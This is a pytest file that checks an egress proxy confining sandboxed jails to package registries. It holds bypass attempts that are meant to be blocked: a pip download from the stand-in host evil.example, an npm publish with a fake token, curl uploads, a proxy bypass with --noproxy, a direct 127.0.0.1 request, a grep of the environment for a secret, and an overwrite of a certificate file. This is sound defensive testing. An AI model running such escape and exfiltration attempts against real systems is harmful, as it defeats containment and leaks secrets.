"""The whole way: real tools in a real jail without a network, to this machine's own registries."""

import asyncio
import json
import socket
from collections.abc import AsyncIterator
from dataclasses import dataclass, replace
from pathlib import Path

import pytest

from journeyman.environments.egress.indexes import RegistryHosts
from journeyman.environments.egress.proxy import EgressProxy, EgressSession
from journeyman.environments.egress.registries import Registries
from journeyman.environments.egress.rules import Denial, EgressRules
from journeyman.sandboxes.base import Completed, Sandbox
from journeyman.sandboxes.local import LocalSandboxes
from journeyman.settings import Settings
from tests.environments.egress.outside import FILE
from tests.environments.egress.standins import NAMES, StandIn
from tests.sandboxes.specs import spec_for


@dataclass
class Jail:
    sandbox: Sandbox
    session: EgressSession
    denials: list[Denial]
    variables: dict[str, str]

    async def run(self, command: str) -> Completed:
        return await self.sandbox.execute_command(command, timeout=120, env=self.variables)


class Jails:
    """Opens jails whose only way out is a session with the given rules."""

    def __init__(self, settings: Settings, directory: Path) -> None:
        self.settings = settings
        self._directory = directory
        self._sandboxes = LocalSandboxes(settings)

    async def open(self, proxy: EgressProxy, rules: EgressRules) -> Jail:
        spec = replace(spec_for(self._directory), shown=(proxy.certificates,))
        sandbox = await self._sandboxes.setup(spec)
        denials: list[Denial] = []
        session = await proxy.open(rules, denials.append)
        port = await sandbox.open_door(session.socket)
        return Jail(sandbox, session, denials, session.variables(port))

    async def close(self) -> None:
        await self._sandboxes.close()


@pytest.fixture
async def jails(settings: Settings, tmp_path: Path) -> AsyncIterator[Jails]:
    opened = Jails(settings, tmp_path / "trees")
    yield opened
    await opened.close()


async def registries_of(tool: str) -> RegistryHosts:
    """What this machine's tool uses; the test is skipped where nothing of it can be reached."""
    found = await Registries().find([tool])
    loop = asyncio.get_running_loop()
    try:
        await loop.getaddrinfo(found.registries[0].host, 443, type=socket.SOCK_STREAM)
    except (OSError, IndexError):
        pytest.skip(f"the registry of {tool} cannot be reached from this machine")
    return found


async def test_pip_downloads_a_package_from_a_jail_without_a_network(jails: Jails) -> None:
    found = await registries_of("python3")
    # The files' host is left out: the index itself has to name it.
    indexes = replace(found, registries=tuple(one for one in found.registries if one.kind == "pypi"))
    async with EgressProxy(jails.settings) as proxy:
        jail = await jails.open(proxy, indexes.rules())
        done = await jail.run("python3 -m pip download --no-deps --no-cache-dir -d got iniconfig && ls got")
        leaked = await jail.run(
            "python3 -m pip download --retries 1 -d got --index" + "-url https://evil.example/simple x"
        )
    assert done.ok, done.output
    assert "iniconfig-" in done.output.splitlines()[-1]
    assert not leaked.ok
    assert "evil.example is not a package registry" in leaked.output
    assert [(one.host, one.port) for one in jail.denials] == [("evil.example", 443)]


async def test_npm_reads_a_package_from_a_jail_without_a_network(jails: Jails) -> None:
    found = await registries_of("npm")
    async with EgressProxy(jails.settings) as proxy:
        jail = await jails.open(proxy, found.rules())
        done = await jail.run("npm view isarray@2.0.5 name version --json")
        packed = await jail.run("npm pack isarray@2.0.5")
        token = f"//{found.registries[0].host}/:_authToken=x"
        await jail.run(
            f"""echo '{{"name": "private", "version": "1.0.0"}}' >package.json; echo '{token}' >.npmrc"""
        )
        published = await jail.run("npm publish --fetch-retries=0")
    assert done.ok, done.output
    assert json.loads(done.output[done.output.index("{") :])["version"] == "2.0.5"
    assert packed.ok, packed.output
    assert not published.ok
    assert [one.reason.partition(" ")[0] for one in jail.denials] == ["PUT"]


async def test_a_jail_reaches_its_registry_and_nothing_else(
    jails: Jails, outside: StandIn, settings: Settings
) -> None:
    trusting = settings.model_copy(update={"registry_ca_file": outside.ca_file})
    address = f"https://registry.example:{outside.tls_port}"
    script = f"""
curl -sS -o file.tgz -w '%{{http_code}}\\n' {address}/file.tgz
curl -sS -T file.tgz -w '%{{http_code}}\\n' -o /dev/null {address}/echo
curl -sS --noproxy '*' -m 5 {address}/file.tgz || echo no way
curl -sS https://127.0.0.1:{outside.tls_port}/ -x "$HTTPS_PROXY" --noproxy '' || echo no address
env | grep -c secret-of-the-registry
ls -A "$(dirname "$SSL_CERT_FILE")/.."
"""
    rules = EgressRules(
        registries=(outside.registry(),),
        private_hosts=frozenset(NAMES),
        credentials={f"registry.example:{outside.tls_port}": "Bearer secret-of-the-registry"},
    )
    async with EgressProxy(trusting, resolve_name=outside.resolve) as proxy:
        jail = await jails.open(proxy, rules)
        jail.session.command = "npm ci"
        done = await jail.run(script)
        content = await jail.sandbox.read_file("file.tgz")
    lines = [line for line in done.output.splitlines() if not line.startswith("curl:")]
    assert lines == ["200", "405", "no way", "no address", "0", "certificates"]
    assert content == FILE
    assert {request.headers.get("authorization") for request in outside.requests} == {
        "Bearer secret-of-the-registry"
    }
    assert [(one.host, one.command) for one in jail.denials] == [
        ("registry.example", "npm ci"),
        ("127.0.0.1", "npm ci"),
    ]


async def test_certificates_cannot_be_changed_from_inside(jails: Jails) -> None:
    async with EgressProxy(jails.settings) as proxy:
        jail = await jails.open(proxy, EgressRules())
        done = await jail.run(
            'test -r "$SSL_CERT_FILE" && echo readable; echo >"$SSL_CERT_FILE" || echo kept'
        )
        assert "readable" in done.output
        assert "kept" in done.output
        assert (await jail.run('grep -c BEGIN "$SSL_CERT_FILE"')).output.strip() != "0"
